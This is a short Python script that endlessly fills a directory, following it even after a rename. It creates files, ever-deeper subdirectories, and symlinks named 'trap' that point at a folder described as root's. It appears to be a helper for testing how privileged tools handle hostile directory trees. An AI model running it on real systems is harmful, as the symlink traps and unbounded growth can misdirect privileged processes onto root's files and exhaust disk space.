#!/usr/bin/env python3
"""Fills a folder for ever, also once it has another name: ever deeper folders, files, and symlinks to a folder of root's."""
import os
import sys

path, target = sys.argv[1], sys.argv[2]
top = at = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
number = 0
print("filling", flush=True)
while True:
    number += 1
    try:
        os.symlink(target, f"trap{number}", dir_fd=at)
        os.close(os.open(f"file{number}", os.O_WRONLY | os.O_CREAT, dir_fd=at))
        if number % 100 == 0:
            os.mkdir("deeper", dir_fd=at)
            inner = os.open("deeper", os.O_RDONLY | os.O_DIRECTORY, dir_fd=at)
            if at != top:
                os.close(at)
            at = inner
    except OSError:
        at = top
